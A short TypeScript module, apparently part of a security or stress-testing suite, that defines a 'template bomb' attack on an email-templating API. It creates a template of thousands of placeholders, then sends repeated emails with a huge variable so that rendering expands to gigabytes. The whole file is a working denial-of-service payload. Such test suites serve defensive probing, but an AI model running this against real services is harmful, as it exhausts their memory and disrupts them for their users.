import type { Attack } from './attack.ts'
import { call, repeat } from './requests.ts'

/** 31 kB that were 4 GB when they were filled in. */
export const attack: Attack = {
  name: 'template bomb',
  async run(target, signal) {
    const template = await call(target, 'POST', '/templates', { name: 'x', html: '{{{A}}}'.repeat(4_400) }, signal)
    await call(target, 'POST', `/templates/${template.id}/publish`, {}, signal)
    const email = {
      from: 'a@attacker.dev',
      to: 'b@attacker.dev',
      subject: 'x',
      template: { id: template.id, variables: { A: 'x'.repeat(900_000) } },
    }
    await repeat(signal, 8, () => call(target, 'POST', '/emails', email, signal))
  },
}
